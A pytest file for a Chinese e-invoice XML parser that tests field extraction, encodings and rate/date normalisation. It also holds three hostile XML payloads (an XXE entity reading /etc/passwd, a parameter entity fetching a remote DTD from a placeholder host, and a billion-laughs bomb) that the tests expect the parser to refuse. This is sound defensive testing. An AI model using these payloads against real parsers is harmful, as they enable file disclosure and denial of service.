"""数电票 XML (and 2019 电子发票 data XML) files, parsed directly; hostile XML is refused."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pytest

from capture.contract import values as norm
from capture.decide import build_record
from capture.errors import InputError
from capture.evaluate import score_invoice
from capture.extract.join import group_pages
from capture.pipeline import read_xml_drafts
from fixtures.ofd_xml import generate
from tests.conftest import REAL, ROOT, load_truth

TODAY = dt.date(2030, 1, 1)
SAMPLE = ROOT / "fixtures" / "xml" / "erma0_24322000000489101796.xml"
ERMA0_TRUTH = REAL / "erma0_24322000000489101796.truth.json"


def record_of(path: Path, today: dt.date | None = None):
    (draft,) = group_pages(read_xml_drafts(path))
    return build_record(draft, path.name, "0" * 64, today)


def wrong_fields(record, invoice: dict) -> list[str]:
    scores = score_invoice(record.to_json_dict()["invoice"], invoice, set())
    return [name for name, ok in scores.items() if not ok]


def test_sample_reads_every_field():
    """The hand-written 数电票 XML of the real erma0 invoice gives that invoice's truth."""
    truth = load_truth(ERMA0_TRUTH)["invoices"][0]["invoice"]
    record = record_of(SAMPLE)
    assert wrong_fields(record, truth) == []
    assert record.status == "ready", record.reasons
    assert record.source.kind == "xml" and record.source.page == 1


def test_draft_follows_the_interface():
    (draft,) = read_xml_drafts(SAMPLE)
    assert draft.source_kind == "xml" and draft.pages == [1] and draft.qr == []
    assert draft.invoice["kind"] == "digital_special" and draft.confidence["total"] == 1.0
    assert draft.invoice["items"][0]["unit"] == "台"


def test_namespaced_xml_reads_the_same(tmp_path):
    text = SAMPLE.read_text(encoding="utf-8").replace(
        "<EInvoice>", '<EInvoice xmlns="urn:example:einvoice">'
    )
    path = tmp_path / "ns.xml"
    path.write_text(text, encoding="utf-8")
    truth = load_truth(ERMA0_TRUTH)["invoices"][0]["invoice"]
    assert wrong_fields(record_of(path), truth) == []


def test_original_invoice_xml_on_its_own(tmp_path):
    """The 2019 data XML of a 电子专票, as mailed beside its OFD: all but the words, which it has
    not; the kind comes from its GraphCode QR."""
    with zipfile.ZipFile(REAL / "easyofd_052002100113_00008006.ofd") as archive:
        data = archive.read("Doc_0/Attachs/original_invoice.xml")
    path = tmp_path / "original_invoice.xml"
    path.write_bytes(data)
    truth = load_truth(REAL / "easyofd_052002100113_00008006.truth.json")["invoices"][0]["invoice"]
    record = record_of(path)
    assert wrong_fields(record, truth) == ["total_in_words"]
    assert record.invoice.kind == "vat_electronic_special"


def test_synthetic_xml_every_field_exact(tmp_path):
    paths = generate(tmp_path, 100, seed=23, placements=("xml",))
    failures = {}
    for path in paths:
        truth = load_truth(path.with_name(path.stem + ".truth.json"))
        record = record_of(path, TODAY)
        wrong = wrong_fields(record, truth["invoices"][0]["invoice"])
        if wrong or record.status != "ready":
            failures[path.name] = wrong or record.reasons
    assert len(paths) == 100 and failures == {}


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE EInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<EInvoice><EInvoiceData><BasicInformation><Drawer>&xxe;</Drawer></BasicInformation></EInvoiceData></EInvoice>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE EInvoice [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<EInvoice/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<EInvoice><EInvoiceData><AdditionalInformation><Remark>&lol9;</Remark></AdditionalInformation></EInvoiceData></EInvoice>"""


@pytest.mark.parametrize(
    "payload", [XXE, PARAMETER_XXE, LAUGHS], ids=["xxe", "parameter-entity", "billion-laughs"]
)
def test_entities_are_refused(tmp_path, monkeypatch, payload):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "hostile.xml"
    path.write_bytes(payload)
    with pytest.raises(InputError, match="unsafe XML refused in the XML file") as error:
        read_xml_drafts(path)
    assert "root:" not in str(error.value)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hostile.xml"]


def test_gbk_encoded_xml_is_read(tmp_path):
    text = SAMPLE.read_text(encoding="utf-8").replace('encoding="UTF-8"', 'encoding="GBK"')
    path = tmp_path / "gbk.xml"
    path.write_bytes(text.encode("gbk"))
    truth = load_truth(ERMA0_TRUTH)["invoices"][0]["invoice"]
    assert wrong_fields(record_of(path), truth) == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            b"<html><body>not an invoice</body></html>",
            "not an invoice XML: the root element is <html>",
        ),
        (b'<?xml version="1.0" encoding="Shift_JIS"?><EInvoice/>', "cannot be read as XML"),
        (b"<EInvoice><EInvoiceData>", "not well-formed"),
        (b"", "not well-formed"),
    ],
)
def test_other_xml_is_refused_clearly(tmp_path, content, message):
    path = tmp_path / "other.xml"
    path.write_bytes(content)
    with pytest.raises(InputError, match=message):
        read_xml_drafts(path)


@pytest.mark.parametrize(
    ("printed", "rate"),
    [
        ("13%", "0.13"),
        ("0.13", "0.13"),
        ("0.1", "0.10"),
        ("10%", "0.10"),
        ("0%", "0"),
        ("0.00", "0"),
        ("免税", "免税"),
        ("不征税", "不征税"),
        ("***", None),
        ("1.5%", "0.015"),
    ],
)
def test_rates_take_the_record_form(printed, rate):
    assert norm.rate(printed) == rate


@pytest.mark.parametrize(
    ("printed", "date"),
    [
        ("2022年05月05日", "2022-05-05"),
        ("2024-12-05 14:37:12", "2024-12-05"),
        ("20240514", "2024-05-14"),
        ("", None),
    ],
)
def test_dates_take_the_record_form(printed, date):
    assert norm.date(printed) == date
